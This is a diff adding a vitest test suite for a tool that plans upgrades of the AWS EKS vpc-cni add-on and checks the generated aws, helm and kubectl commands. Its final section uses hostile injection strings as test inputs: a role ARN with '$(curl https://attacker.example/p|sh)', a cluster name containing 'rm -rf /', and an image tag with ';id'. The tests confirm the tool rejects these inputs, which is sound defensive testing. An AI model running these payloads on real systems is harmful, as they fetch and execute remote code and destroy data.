@@ -1,0 +1,394 @@
+import { beforeAll, describe, expect, it } from 'vitest';
+import { evaluateClusterWithPlan } from '../../lib/evaluate/evaluate.js';
+import { upstreamRelease } from '../../lib/evaluate/plan/releases.js';
+import type { Rule } from '../../lib/evaluate/rule.js';
+import { loadRules } from '../../lib/rules/load.js';
+import type { ClusterFacts, ClusterPlan, CniFacts } from '../../lib/types.js';
+import { K8S_124_EARLY_2023, K8S_129_SPRING_2024, K8S_129_SPRING_2024_DEFAULT, K8S_133_2026 } from '../fixtures/catalogs.js';
+import { clusterFacts } from '../fixtures/cluster.js';
+
+let rules: Rule[];
+beforeAll(async () => {
+  rules = await loadRules();
+});
+
+const commandsOf = (plan: ClusterPlan | undefined) => plan?.steps.flatMap((s) => s.commands) ?? [];
+const addonVersions = (plan: ClusterPlan | undefined) => commandsOf(plan).flatMap((c) => [...c.matchAll(/--addon-version (\S+)/g)].map((m) => m[1]!));
+
+function selfManaged(cni: Partial<CniFacts>, overrides: Partial<Omit<ClusterFacts, 'cni'>> = {}): ClusterFacts {
+  return clusterFacts({
+    kubernetesVersion: '1.29',
+    offeredVersions: K8S_129_SPRING_2024,
+    ...overrides,
+    cni: { managed: false, source: 'daemonset', status: null, installMethod: 'manifest', configurationValues: '{"env":{"WARM_ENI_TARGET":"1"}}', ...cni },
+  });
+}
+
+/** A rule as an organization would add it with --rules. */
+function extraRule(overrides: Partial<Rule>): Rule {
+  return {
+    id: 'org-rule',
+    title: 'An organization rule',
+    severity: 'medium',
+    addon: 'vpc-cni',
+    remediation: { preset: 'upgrade', text: 'Upgrade to {{fix.target}}.' },
+    references: [],
+    sections: { impact: '', rootCause: '', triggerConditions: '', remediation: '', mitigation: '' },
+    source: 'test',
+    ...overrides,
+  } as Rule;
+}
+
+describe('plan: one merged configuration per cluster', () => {
+  const yaml = [
+    'env:',
+    '  ENABLE_PREFIX_DELEGATION: "true"',
+    '  AWS_VPC_K8S_CNI_CUSTOM_NETWORK_CFG: "true"',
+    '  ENI_CONFIG_LABEL_DEF: topology.kubernetes.io/zone',
+    '  WARM_IP_TARGET: "5"',
+    '  HTTPS_PROXY: http://cni:s3cr3t-pass@proxy.internal:3128',
+    'livenessProbeTimeoutSeconds: 5',
+    '',
+  ].join('\n');
+
+  it('applies every fix to the YAML configuration the cluster runs, once, keeping every other setting', () => {
+    // Act: WARM_IP_TARGET without MINIMUM_IP_TARGET, and a low probe timeout, on one cluster
+    const { findings, plan } = evaluateClusterWithPlan(rules, clusterFacts({ cni: { configurationValues: yaml } }));
+
+    // Assess
+    expect(findings.map((f) => f.ruleId).sort()).toEqual(['vpc-cni-probe-timeout-low', 'vpc-cni-warm-ip-target-without-minimum']);
+    const updates = commandsOf(plan).filter((c) => c.includes('--configuration-values'));
+    expect(updates).toHaveLength(1);
+    expect(updates[0]).toContain('--resolve-conflicts PRESERVE');
+    expect(plan?.configuration).toMatchObject({ sourceFormat: 'yaml', source: 'addon' });
+    const merged = JSON.parse(plan!.configuration!.values) as { env: Record<string, string>; livenessProbeTimeoutSeconds: number; readinessProbeTimeoutSeconds: number };
+    expect(merged.env).toMatchObject({ ENABLE_PREFIX_DELEGATION: 'true', AWS_VPC_K8S_CNI_CUSTOM_NETWORK_CFG: 'true', ENI_CONFIG_LABEL_DEF: 'topology.kubernetes.io/zone', WARM_IP_TARGET: '5' });
+    expect(merged.env.MINIMUM_IP_TARGET).toBe('$MINIMUM_IP_TARGET');
+    expect(merged).toMatchObject({ livenessProbeTimeoutSeconds: 10, readinessProbeTimeoutSeconds: 10 });
+    // Both findings point to the one command: neither undoes the other.
+    for (const f of findings) expect(f.remediation.commands).toEqual(updates);
+  });
+
+  it('never prints a secret of the configuration: it names the key and reads the value from a guarded variable', () => {
+    // Act
+    const result = evaluateClusterWithPlan(rules, clusterFacts({ cni: { configurationValues: yaml } }));
+
+    // Assess
+    expect(JSON.stringify(result)).not.toContain('s3cr3t');
+    expect(result.plan?.configuration?.withheld).toEqual([{ path: 'env.HTTPS_PROXY', variable: 'CURRENT_HTTPS_PROXY' }]);
+    expect(commandsOf(result.plan).join('\n')).toContain(`"HTTPS_PROXY":"'"\${CURRENT_HTTPS_PROXY:?set CURRENT_HTTPS_PROXY to the current env.HTTPS_PROXY, withheld from this report}"'"`);
+  });
+
+  it('asks for a value a person must choose, and the command refuses to run without it', () => {
+    // Act
+    const { plan } = evaluateClusterWithPlan(rules, clusterFacts({ cni: { configurationValues: '{"env":{"WARM_IP_TARGET":"5"}}' } }));
+
+    // Assess
+    expect(plan?.configuration?.choices).toEqual([{ path: 'env.MINIMUM_IP_TARGET', variable: 'MINIMUM_IP_TARGET', hint: 'the number of pods a node usually runs' }]);
+    expect(commandsOf(plan).join('\n')).toContain('${MINIMUM_IP_TARGET:?set MINIMUM_IP_TARGET to the number of pods a node usually runs}');
+    expect(commandsOf(plan).join('\n')).not.toContain('<');
+  });
+
+  it('removes WARM_PREFIX_TARGET without prefix delegation, and raises only the timeouts below 10', () => {
+    // Act
+    const prefix = evaluateClusterWithPlan(rules, clusterFacts({ cni: { configurationValues: '{"env":{"WARM_PREFIX_TARGET":"2","WARM_ENI_TARGET":"2"}}' } }));
+    const probes = evaluateClusterWithPlan(rules, clusterFacts({ cni: { configurationValues: '{"livenessProbeTimeoutSeconds":5,"readinessProbeTimeoutSeconds":30}' } }));
+
+    // Assess
+    expect(prefix.plan?.configuration?.values).toBe('{"env":{"WARM_ENI_TARGET":"2"}}');
+    expect(probes.plan?.configuration?.values).toBe('{"livenessProbeTimeoutSeconds":10,"readinessProbeTimeoutSeconds":30}');
+  });
+});
+
+describe('plan: no invented versions', () => {
+  it('names the upstream release and lists what EKS offers when the catalog was not read', () => {
+    // Act
+    const { findings, plan } = evaluateClusterWithPlan(rules, clusterFacts({ kubernetesVersion: '1.24', cni: { version: 'v1.12.0-eksbuild.1' } }));
+
+    // Assess
+    // 1.12.5 clears the regression but not the stale-IMDS bug (below 1.18.4): the first release clear of both
+    expect(plan).toMatchObject({ target: null, releaseFloor: '1.18.4' });
+    expect(addonVersions(plan)).toEqual([]);
+    expect(commandsOf(plan).join('\n')).toContain('aws eks describe-addon-versions --addon-name vpc-cni');
+    expect(findings.find((f) => f.ruleId === 'vpc-cni-ipamd-reconcile-regression')?.remediation.text).toContain('release 1.18.4 or later');
+  });
+
+  it('says "upgrade Kubernetes first" with the path when EKS offers nothing for the Kubernetes version', () => {
+    // Act: Kubernetes 1.21, which the 2026 catalog no longer lists anything for
+    const { findings, plan } = evaluateClusterWithPlan(rules, clusterFacts({ kubernetesVersion: '1.21', cni: { version: 'v1.7.1-eksbuild.1' }, offeredVersions: [] }));
+
+    // Assess
+    expect(plan?.kubernetesFirst).toBe('1.22');
+    expect(plan?.targetReason).toContain('EKS offers no vpc-cni build for Kubernetes 1.21 in us-east-1: upgrade Kubernetes first, one minor at a time (1.21 → 1.22');
+    expect(addonVersions(plan)).toEqual([]);
+    expect(findings.every((f) => f.targetVersion === null)).toBe(true);
+  });
+});
+
+describe('plan: one target per cluster, clear of every known risk', () => {
+  it('gives every finding the same target, the least bad build, naming the risk it still carries', () => {
+    // Act: Kubernetes 1.24, early 2023. Every 1.12 build EKS offered was still inside the
+    // regression (>=1.11.4 <1.12.5), and every build below the stale-IMDS fix (1.18.4).
+    const { findings, plan } = evaluateClusterWithPlan(rules, clusterFacts({ kubernetesVersion: '1.24', cni: { version: 'v1.12.0-eksbuild.1' }, offeredVersions: K8S_124_EARLY_2023 }));
+
+    // Assess: the HIGH regression and the LOW behind-latest finding no longer disagree
+    const targets = new Set(findings.filter((f) => f.targetVersion !== null).map((f) => f.targetVersion));
+    expect(findings.map((f) => f.ruleId).sort()).toEqual(['vpc-cni-behind-latest', 'vpc-cni-ipamd-reconcile-regression', 'vpc-cni-stale-imds-same-ip-count']);
+    expect([...targets]).toEqual(['v1.11.3-eksbuild.1']);
+    expect(plan?.risksCarried).toEqual(['vpc-cni-stale-imds-same-ip-count']);
+    expect(plan?.targetReason).toContain('still carries vpc-cni-stale-imds-same-ip-count');
+    expect(plan?.targetReason).toContain('a downgrade from v1.12.0-eksbuild.1');
+    expect(addonVersions(plan)).toEqual(['v1.11.3-eksbuild.1']);
+  });
+
+  it('counts the rules given with --rules: one high and one medium risk are less bad than two high ones', () => {
+    // Prepare: an organization rule that refuses everything below 1.12
+    const org = extraRule({ id: 'org-minimum-1-12', affected: '<1.12.0', fixed: '1.12.0' });
+
+    // Act
+    const { plan } = evaluateClusterWithPlan([...rules, org], clusterFacts({ kubernetesVersion: '1.24', cni: { version: 'v1.12.0-eksbuild.1' }, offeredVersions: K8S_124_EARLY_2023 }));
+
+    // Assess: v1.11.3 carries stale-IMDS (high) and the organization rule (medium); v1.12.2 two high ones
+    expect(plan).toMatchObject({ target: 'v1.11.3-eksbuild.1', risksCarried: ['vpc-cni-stale-imds-same-ip-count', 'org-minimum-1-12'] });
+  });
+
+  it('targets the newest build clear of every risk when EKS offers one', () => {
+    // Act: Kubernetes 1.33 in 2026
+    const { findings, plan } = evaluateClusterWithPlan(rules, clusterFacts({ kubernetesVersion: '1.33', cni: { version: 'v1.19.5-eksbuild.1' }, offeredVersions: K8S_133_2026 }));
+
+    // Assess
+    expect(plan).toMatchObject({ target: 'v1.21.1-eksbuild.8', risksCarried: [] });
+    expect(plan?.targetReason).toContain('clear of every known risk');
+    expect(new Set(findings.map((f) => f.targetVersion).filter(Boolean))).toEqual(new Set(['v1.21.1-eksbuild.8']));
+  });
+
+  it('moves no target for an informational risk, and says its fix is not offered yet', () => {
+    // Act: the newest 1.33 build of the catalog is still below 1.23.0 (kube-proxy nftables, informational)
+    const { findings, plan } = evaluateClusterWithPlan(rules, clusterFacts({ kubernetesVersion: '1.33', cni: { version: 'v1.21.1-eksbuild.8' }, offeredVersions: K8S_133_2026 }));
+
+    // Assess
+    const nftables = findings.find((f) => f.ruleId === 'vpc-cni-kube-proxy-nftables-secondary-eni');
+    expect(nftables?.remediation.text).toContain('release 1.23.0 or later, not yet offered for Kubernetes 1.33');
+    expect(plan?.target).toBeNull();
+    expect(plan?.targetReason).toContain('fixed in 1.23.0, which EKS does not offer for Kubernetes 1.33 yet');
+    expect(addonVersions(plan)).toEqual([]);
+  });
+
+  it('counts a configuration-dependent version risk only where its condition holds', () => {
+    // Prepare: a risk of v1.18.0 that only matters with security groups for pods on
+    const sgp = extraRule({ id: 'org-sgp-1-18-0', severity: 'high', affected: '>=1.18.0 <1.18.1', fixed: '1.18.1', when: { fact: 'addon.config.env.ENABLE_POD_ENI', equals: true } });
+    const facts = (env: Record<string, string>) =>
+      clusterFacts({ cni: { version: 'v1.16.0-eksbuild.1', configurationValues: JSON.stringify({ env }) }, offeredVersions: K8S_129_SPRING_2024 });
+
+    // Act
+    const on = evaluateClusterWithPlan([...rules, sgp], facts({ ENABLE_POD_ENI: 'true' }));
+    const off = evaluateClusterWithPlan([...rules, sgp], facts({ ENABLE_POD_ENI: 'false' }));
+
+    // Assess
+    expect(on.plan?.target).toBe('v1.17.1-eksbuild.1');
+    expect(off.plan?.target).toBe('v1.18.0-eksbuild.1');
+  });
+
+  it('targets the newest build, not the default one', () => {
+    // Act
+    const { plan } = evaluateClusterWithPlan(rules, clusterFacts({ cni: { version: K8S_129_SPRING_2024_DEFAULT }, offeredVersions: K8S_129_SPRING_2024 }));
+
+    // Assess
+    expect(plan?.target).toBe('v1.18.0-eksbuild.1');
+  });
+});
+
+describe('plan: one minor at a time, for real', () => {
+  it('visits the newest offered build of every minor in between, once per cluster', () => {
+    // Act: Kubernetes 1.29, spring 2024
+    const { findings, plan } = evaluateClusterWithPlan(rules, clusterFacts({ cni: { version: 'v1.15.1-eksbuild.1' }, offeredVersions: K8S_129_SPRING_2024 }));
+
+    // Assess
+    expect(plan?.path).toEqual(['v1.16.4-eksbuild.2', 'v1.17.1-eksbuild.1', 'v1.18.0-eksbuild.1']);
+    expect(plan?.steps.filter((s) => s.commands.some((c) => c.includes('update-addon')))).toHaveLength(1);
+    expect(findings.every((f) => !/one minor/i.test(f.remediation.text) || f.ruleId === 'vpc-cni-behind-latest')).toBe(true);
+  });
+
+  it('names the minors EKS offers no build of, and goes through them self-managed with the upstream release', () => {
+    // Act: Kubernetes 1.33 in 2026 offers nothing of 1.17 or 1.18
+    const { plan } = evaluateClusterWithPlan(rules, clusterFacts({ kubernetesVersion: '1.33', cni: { version: 'v1.16.4-eksbuild.2' }, offeredVersions: K8S_133_2026 }));
+
+    // Assess
+    expect(plan?.missingMinors).toEqual(['1.17', '1.18']);
+    expect(plan?.path).toEqual(['v1.17.1 (self-managed)', 'v1.18.6 (self-managed)', 'v1.19.6-eksbuild.7', 'v1.20.5-eksbuild.1', 'v1.21.1-eksbuild.8']);
+    const commands = commandsOf(plan);
+    expect(commands.some((c) => c.startsWith('aws eks delete-addon --cluster-name payments --region us-east-1 --addon-name vpc-cni --preserve'))).toBe(true);
+    expect(commands).toContain('curl -fsSL -o aws-k8s-cni-v1.17.1-payments.yaml https://raw.githubusercontent.com/aws/amazon-vpc-cni-k8s/v1.17.1/config/master/aws-k8s-cni.yaml');
+    expect(commands.some((c) => c.startsWith('aws eks create-addon') && c.includes('--addon-version v1.19.6-eksbuild.7 --resolve-conflicts OVERWRITE'))).toBe(true);
+    for (const version of addonVersions(plan)) expect(K8S_133_2026).toContain(version);
+  });
+});
+
+describe('plan: self-managed, by how aws-node was installed', () => {
+  const helm = { installMethod: 'helm' as const, helmRelease: { name: 'aws-vpc-cni', namespace: 'kube-system', chartVersion: '1.16.4' } };
+
+  it('upgrades a Helm install with the chart of each release, its network policy agent, and the cluster context', () => {
+    // Act
+    const { plan } = evaluateClusterWithPlan(rules, selfManaged({ ...helm, version: 'v1.16.4', image: '602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.16.4' }));
+
+    // Assess
+    const commands = commandsOf(plan);
+    expect(commands[0]).toBe('aws eks update-kubeconfig --name payments --region us-east-1 --alias payments');
+    expect(commands).toContain('helm repo add eks https://aws.github.io/eks-charts --force-update');
+    const upgrades = commands.filter((c) => c.startsWith('helm upgrade'));
+    expect(upgrades.map((c) => /--version (\S+)/.exec(c)?.[1])).toEqual(['1.17.1', '1.18.0']);
+    expect(upgrades[1]).toContain('image.tag=v1.18.0,init.image.tag=v1.18.0,nodeAgent.image.tag=v1.1.0');
+    expect(upgrades[1]).toContain('--kube-context payments');
+    expect(upgrades[1]).toContain('--reset-then-reuse-values');
+    expect(commands.join('\n')).not.toContain('kubectl apply');
+  });
+
+  it('takes the chart the release was published with, not a guess from the release number', () => {
+    expect(upstreamRelease('1.12.6')?.chart).toBe('1.2.8');
+    expect(upstreamRelease('1.18.1')?.chart).toBe('1.18.1');
+    expect(upstreamRelease('1.20.5')?.chart).toBeNull();
+    expect(upstreamRelease('1.23.0')).toMatchObject({ agent: 'v1.4.1' });
+  });
+
+  it('applies the release manifest for the partition and region to a manifest install, keeping its settings', () => {
+    // Act
+    const { plan } = evaluateClusterWithPlan(rules, selfManaged({ version: 'v1.17.1', image: '602401143452.dkr.ecr.eu-west-1.amazonaws.com/amazon-k8s-cni:v1.17.1' }, { region: 'eu-west-1' }));
+
+    // Assess
+    const commands = commandsOf(plan);
+    expect(commands).toContain('curl -fsSL -o aws-k8s-cni-v1.18.0-payments.yaml https://raw.githubusercontent.com/aws/amazon-vpc-cni-k8s/v1.18.0/config/master/aws-k8s-cni.yaml');
+    expect(commands).toContain(`sed -i.bak -e 's|602401143452.dkr.ecr.us-west-2.amazonaws.com|602401143452.dkr.ecr.eu-west-1.amazonaws.com|g' aws-k8s-cni-v1.18.0-payments.yaml`);
+    expect(commands).toContain(
+      'kubectl --context payments apply -f aws-k8s-cni-v1.18.0-payments.yaml && kubectl --context payments -n kube-system set env daemonset aws-node -c aws-node WARM_ENI_TARGET=1 && kubectl --context payments -n kube-system rollout status daemonset aws-node --timeout 15m',
+    );
+  });
+
+  it('gives the move to the managed add-on after backing up: create-addon with OVERWRITE and the settings', () => {
+    // Act
+    const { plan } = evaluateClusterWithPlan(rules, selfManaged({ version: 'v1.18.0', image: '602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.18.0' }));
+
+    // Assess
+    const titles = plan!.steps.map((s) => s.title);
+    expect(titles.findIndex((t) => t.startsWith('Back up'))).toBeLessThan(titles.findIndex((t) => t.includes('managed add-on')));
+    expect(commandsOf(plan)).toContain(
+      `aws eks create-addon --cluster-name payments --region us-east-1 --addon-name vpc-cni --addon-version v1.18.0-eksbuild.1 --resolve-conflicts OVERWRITE --configuration-values '{"env":{"WARM_ENI_TARGET":"1"}}' --service-account-role-arn arn:aws:iam::222222222222:role/AmazonEKSVPCCNIRole && aws eks wait addon-active --cluster-name payments --region us-east-1 --addon-name vpc-cni`,
+    );
+  });
+
+  it('names the cluster context on every kubectl and helm line', () => {
+    for (const facts of [selfManaged({ ...helm, version: 'v1.16.4' }), selfManaged({ version: 'v1.15.1' }), clusterFacts({ kubernetesVersion: '1.33', cni: { version: 'v1.16.4-eksbuild.2' }, offeredVersions: K8S_133_2026 })]) {
+      const commands = commandsOf(evaluateClusterWithPlan(rules, facts).plan);
+      for (const segment of commands.flatMap((c) => c.split(/&&|\|/)).map((c) => c.trim())) {
+        if (segment.startsWith('kubectl')) expect(segment).toMatch(/^kubectl --context payments /);
+        if (segment.startsWith('helm ') && !segment.startsWith('helm repo')) expect(segment).toContain('--kube-context payments');
+      }
+    }
+  });
+});
+
+describe('plan: partitions and registries', () => {
+  it('takes the China manifest as it is in cn-northwest-1, and points it at cn-north-1 there', () => {
+    // Act
+    const northwest = commandsOf(evaluateClusterWithPlan(rules, selfManaged({ version: 'v1.17.1' }, { region: 'cn-northwest-1', partition: 'aws-cn' })).plan);
+    const north = commandsOf(evaluateClusterWithPlan(rules, selfManaged({ version: 'v1.17.1' }, { region: 'cn-north-1', partition: 'aws-cn' })).plan);
+
+    // Assess
+    expect(northwest).toContain('curl -fsSL -o aws-k8s-cni-v1.18.0-payments.yaml https://raw.githubusercontent.com/aws/amazon-vpc-cni-k8s/v1.18.0/config/master/aws-k8s-cni-cn.yaml');
+    expect(northwest.some((c) => c.startsWith('sed'))).toBe(false);
+    expect(north).toContain(`sed -i.bak -e 's|961992271922.dkr.ecr.cn-northwest-1.amazonaws.com.cn|918309763551.dkr.ecr.cn-north-1.amazonaws.com.cn|g' aws-k8s-cni-v1.18.0-payments.yaml`);
+  });
+
+  it('takes the GovCloud manifest in us-gov-west-1, and the registry domain of China in a Helm install', () => {
+    // Act
+    const gov = commandsOf(evaluateClusterWithPlan(rules, selfManaged({ version: 'v1.17.1' }, { region: 'us-gov-west-1', partition: 'aws-us-gov' })).plan);
+    const china = commandsOf(
+      evaluateClusterWithPlan(
+        rules,
+        selfManaged(
+          { version: 'v1.17.1', installMethod: 'helm', helmRelease: { name: 'cni', namespace: 'kube-system', chartVersion: '1.17.1' }, serviceAccountRoleArn: 'arn:aws-cn:iam::222222222222:role/cni' },
+          { region: 'cn-north-1', partition: 'aws-cn' },
+        ),
+      ).plan,
+    );
+
+    // Assess
+    expect(gov).toContain('curl -fsSL -o aws-k8s-cni-v1.18.0-payments.yaml https://raw.githubusercontent.com/aws/amazon-vpc-cni-k8s/v1.18.0/config/master/aws-k8s-cni-us-gov-west-1.yaml');
+    const upgrade = china.find((c) => c.startsWith('helm upgrade'))!;
+    expect(upgrade).toContain('image.account=918309763551,image.region=cn-north-1,image.domain=amazonaws.com.cn');
+    expect(upgrade).toContain('nodeAgent.image.account=918309763551');
+    expect(china.join('\n')).toContain('arn:aws-cn:');
+  });
+
+  it('keeps a cluster that pulls from ECR Public on ECR Public', () => {
+    // Act
+    const commands = commandsOf(evaluateClusterWithPlan(rules, selfManaged({ version: 'v1.17.1', image: 'public.ecr.aws/eks/amazon-k8s-cni:v1.17.1' })).plan);
+
+    // Assess
+    expect(commands).toContain(
+      `sed -i.bak -e 's|602401143452.dkr.ecr.us-west-2.amazonaws.com/amazon/aws-network-policy-agent|public.ecr.aws/eks/aws-network-policy-agent|g' -e 's|602401143452.dkr.ecr.us-west-2.amazonaws.com/|public.ecr.aws/eks/|g' aws-k8s-cni-v1.18.0-payments.yaml`,
+    );
+  });
+});
+
+describe('plan: no noise', () => {
+  const clusters = () => [
+    clusterFacts({ cni: { version: 'v1.15.1-eksbuild.1', status: 'DEGRADED', serviceAccountRoleArn: null, healthIssues: [{ code: 'ConfigurationConflict', message: 'x' }] }, offeredVersions: K8S_129_SPRING_2024 }),
+    clusterFacts({ kubernetesVersion: '1.33', cni: { version: 'v1.16.4-eksbuild.2', configurationValues: '{"env":{"WARM_IP_TARGET":"5"}}' }, offeredVersions: K8S_133_2026 }),
+    selfManaged({ version: 'v1.15.1', image: '123456789012.dkr.ecr.us-east-1.amazonaws.com/mirror/amazon-k8s-cni:v1.15.1', officialImage: false, serviceAccountRoleArn: null }),
+    selfManaged({ version: 'v1.18.0-eksbuild.1' }),
+  ];
+
+  it('repeats no command line, leaks no "unknown" or placeholder, and moves nowhere it already is', () => {
+    for (const facts of clusters()) {
+      // Act
+      const { findings, plan } = evaluateClusterWithPlan(rules, facts);
+
+      // Assess
+      const commands = commandsOf(plan);
+      expect(new Set(commands).size).toBe(commands.length);
+      expect(commands.join('\n')).not.toMatch(/<[A-Za-z ]+>|undefined|\{\{|--force/);
+      for (const f of findings) {
+        expect(f.remediation.text).not.toMatch(/\(?unknown\)?/);
+        expect(f.targetVersion).not.toBe(f.observedVersion);
+      }
+    }
+  });
+
+  it('says "one minor at a time" only where a version moves', () => {
+    const { findings } = evaluateClusterWithPlan(rules, clusters()[0]!);
+    for (const f of findings.filter((f) => f.ruleId === 'vpc-cni-no-iam-role' || f.ruleId === 'vpc-cni-unhealthy')) expect(f.remediation.text).not.toMatch(/minor/);
+  });
+
+  it('names the EKS registry of the region instead of a placeholder', () => {
+    const { plan } = evaluateClusterWithPlan(rules, clusters()[2]!);
+    expect(commandsOf(plan)).toContain(
+      'kubectl --context payments set image daemonset aws-node -n kube-system aws-node=602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.15.1 aws-vpc-cni-init=602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni-init:v1.15.1',
+    );
+  });
+});
+
+describe('plan: values from outside enter commands only validated (issue 14)', () => {
+  const HOSTILE = 'arn:aws:iam::111122223333:role/cni $(curl https://attacker.example/p|sh)';
+
+  it('names a role annotation that is not an IAM role ARN as invalid and keeps it out of every command', () => {
+    // Act
+    const { findings, plan } = evaluateClusterWithPlan(rules, selfManaged({ version: 'v1.17.1', serviceAccountRoleArn: HOSTILE }));
+
+    // Assess
+    expect(plan?.invalid).toEqual([{ what: 'IAM role ARN (aws-node ServiceAccount annotation eks.amazonaws.com/role-arn)', reason: expect.stringContaining('not a valid IAM role ARN') }]);
+    expect(JSON.stringify({ findings, plan })).not.toContain('attacker.example');
+    expect(commandsOf(plan).some((c) => c.startsWith('aws eks create-addon'))).toBe(true);
+  });
+
+  it('gives no command at all for a cluster whose name or region is not one, and refuses a hostile image tag', () => {
+    // Act
+    const badName = evaluateClusterWithPlan(rules, clusterFacts({ clusterName: 'prod;rm -rf /', cni: { version: 'v1.15.1-eksbuild.1' }, offeredVersions: K8S_129_SPRING_2024 }));
+    const badTag = evaluateClusterWithPlan(rules, selfManaged({ version: 'v1.15.1;id', image: '123456789012.dkr.ecr.us-east-1.amazonaws.com/mirror/amazon-k8s-cni:v1.15.1;id', officialImage: false }));
+
+    // Assess
+    expect(commandsOf(badName.plan)).toEqual([]);
+    expect(badName.plan?.invalid[0]?.what).toBe('cluster name (cluster)');
+    expect(commandsOf(badTag.plan).join('\n')).not.toContain(';id');
+    expect(badTag.plan?.invalid.some((v) => v.what.includes('{{addon.version}}'))).toBe(true);
+  });
+});
